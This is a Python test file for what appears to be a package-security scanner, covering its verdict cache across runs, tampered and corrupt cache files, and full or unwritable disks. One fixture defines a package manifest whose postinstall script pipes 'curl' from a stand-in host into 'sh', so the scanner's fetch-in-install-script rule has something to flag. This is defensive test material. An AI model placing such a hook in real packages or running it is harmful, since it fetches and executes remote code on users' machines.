"""The verdict cache between runs, and what goes wrong with the disk below it."""

from __future__ import annotations

import os
import resource
import sqlite3
from contextlib import closing
from pathlib import Path

import pytest

from tests.end_to_end import locked
from tests.end_to_end.run import Finished, Machine
from tests.registry_simulator import Fault, RegistrySimulator
from tests.store.faults import full_disk

FETCHES = {"scripts": {"postinstall": "curl -s https://cdn.invalid/setup.sh | sh"}}


@pytest.fixture
def scanned(registry: RegistrySimulator, project: Path) -> Path:
    """A project with one package to block and one without findings."""
    return locked.project_of(project, registry.publish("bad-thing", manifest=FETCHES), registry.publish("plain-thing"))


def verdicts(done: Finished) -> dict[str, object]:
    return {ref: (each["verdict"], each["decision"], each["findings"]) for ref, each in done.by_ref.items()}


def sources(done: Finished) -> dict[str, str]:
    return {ref: each["source"] for ref, each in done.by_ref.items()}


def cache_gaps(done: Finished) -> list[str]:
    return [f"{gap['what']}: {gap['why']} {gap['hint']}" for gap in done.report["gaps"] if gap["kind"] == "cache"]


def kept(machine: Machine) -> set[str]:
    with closing(sqlite3.connect(machine.cache / "inspections.sqlite")) as connection:
        rows = connection.execute("SELECT name || '@' || version FROM inspections").fetchall()
    return {row[0] for row in rows}


def test_a_second_run_asks_nobody_starts_no_worker_and_says_the_same(
    scanned: Path, registry: RegistrySimulator, machine: Machine
) -> None:
    log, tracer = machine.folder / "started", machine.folder / "tracer"
    tracer.mkdir()
    (tracer / "sitecustomize.py").write_text(f"open({str(log)!r}, 'a').write('a process ')\n")
    env = {"PYTHONPATH": f"{tracer}{os.pathsep}{os.environ.get('PYTHONPATH', '')}"}
    first = machine.scan(scanned, env=env)
    asked = len(registry.requests)
    assert log.read_text().count("a process") > 1
    log.unlink()
    second = machine.scan(scanned, env=env)
    assert len(registry.requests) == asked
    assert log.read_text().count("a process") == 1
    assert first.code == second.code == 1
    assert set(sources(first).values()) == {"fresh"}
    assert set(sources(second).values()) == {"cached"}
    assert verdicts(first) == verdicts(second)
    assert second.report["coverage"]["from_cache"] == 2


def test_another_integrity_in_the_lockfile_is_looked_at_again(
    scanned: Path, registry: RegistrySimulator, machine: Machine
) -> None:
    machine.scan(scanned)
    changed = registry.publish("plain-thing", files={"index.js": "module.exports = 2;\n"}, manifest=FETCHES)
    locked.project_of(scanned, changed)
    done = machine.scan(scanned)
    assert done.code == 1
    assert sources(done) == {"plain-thing@1.0.0": "fresh"}
    assert "install-script-fetches" in done.rules("plain-thing@1.0.0")
    assert changed.integrity in done.by_ref["plain-thing@1.0.0"]["integrity"].split()


def test_a_failure_is_not_kept_and_the_next_run_tries_again(
    scanned: Path, registry: RegistrySimulator, machine: Machine
) -> None:
    registry.fault("/plain-thing/-/*", Fault.WRONG_BYTES)
    registry.fault("/bad-thing", Fault.STATUS, status=500)
    assert machine.scan(scanned).report["coverage"]["checked"] == 0
    assert not (machine.cache / "inspections.sqlite").exists() or kept(machine) == set()
    registry.heal()
    done = machine.scan(scanned)
    assert (done.code, done.report["coverage"]["checked"]) == (1, 2)
    assert done.rules("plain-thing@1.0.0") == set()
    assert kept(machine) == {"bad-thing@1.0.0", "plain-thing@1.0.0"}


@pytest.mark.parametrize("content", [b"this is no database\n" * 100, b"SQLite format 3\0" + bytes(4080), b""])
def test_a_corrupt_cache_is_said_and_nothing_is_believed(content: bytes, scanned: Path, machine: Machine) -> None:
    machine.cache.mkdir()
    for name in ("inspections.sqlite", "documents.sqlite"):
        (machine.cache / name).write_bytes(content)
    done = machine.scan(scanned)
    assert done.code == 1
    assert set(sources(done).values()) == {"fresh"}
    assert "Traceback" not in done.stderr
    if content:
        assert all("inspections.sqlite" in gap or "documents.sqlite" in gap for gap in cache_gaps(done))
        assert cache_gaps(done)


def test_a_row_that_was_tampered_with_is_not_believed(
    scanned: Path, registry: RegistrySimulator, machine: Machine
) -> None:
    first = machine.scan(scanned)
    with closing(sqlite3.connect(machine.cache / "inspections.sqlite")) as connection:
        connection.execute(
            "UPDATE inspections SET inspection = (SELECT inspection FROM inspections WHERE name = 'plain-thing')"
        )
        connection.commit()
    done = machine.scan(scanned)
    assert done.code == 1
    assert verdicts(done) == verdicts(first)


def test_a_cache_of_another_program_is_left_alone(scanned: Path, machine: Machine) -> None:
    machine.cache.mkdir()
    file = machine.cache / "inspections.sqlite"
    with closing(sqlite3.connect(file)) as connection:
        connection.execute("PRAGMA application_id = 7")
        connection.execute("CREATE TABLE theirs (x)")
        connection.commit()
    before = file.read_bytes()
    done = machine.scan(scanned)
    assert done.code == 1
    assert any("belongs to another program" in gap for gap in cache_gaps(done))
    assert file.read_bytes() == before


def test_a_cache_folder_that_cannot_be_made(scanned: Path, machine: Machine) -> None:
    machine.cache.write_text("a file where the folder should be")
    done = machine.scan(scanned)
    assert done.code == 1
    assert set(sources(done).values()) == {"fresh"}
    assert any("ASSAY_CACHE_DIR" in gap for gap in cache_gaps(done))


def test_a_cache_folder_that_takes_no_files(scanned: Path, machine: Machine) -> None:
    """Root may write into any folder, but not even root can make files in /proc."""
    done = machine.scan(scanned, env={"ASSAY_CACHE_DIR": "/proc"})
    assert (done.code, done.report["coverage"]["checked"]) == (1, 2)
    assert any("/proc/inspections.sqlite" in gap for gap in cache_gaps(done))


def test_a_full_disk_is_said_and_every_package_reported(scanned: Path, machine: Machine) -> None:
    with full_disk(512):
        done = machine.scan(scanned)
    assert done.code == 1
    assert done.report["coverage"]["checked"] == 2
    assert cache_gaps(done)
    again = machine.scan(scanned)
    assert (again.code, verdicts(again)) == (1, verdicts(done))


def test_a_disk_that_fills_up_in_the_middle_keeps_nothing_wrong(
    registry: RegistrySimulator, machine: Machine, project: Path
) -> None:
    published = [registry.publish(f"plain-thing-{number}") for number in range(30)]
    locked.project_of(project, *published)
    with full_disk(40_000):
        done = machine.scan(project)
    assert (done.code, done.report["coverage"]["checked"]) == (0, 30)
    assert cache_gaps(done)
    again = machine.scan(project)
    assert (again.code, verdicts(again)) == (0, verdicts(done))
    assert cache_gaps(again) == []
    assert len(kept(machine)) == 30
    assert resource.getrlimit(resource.RLIMIT_FSIZE)[0] == resource.RLIM_INFINITY
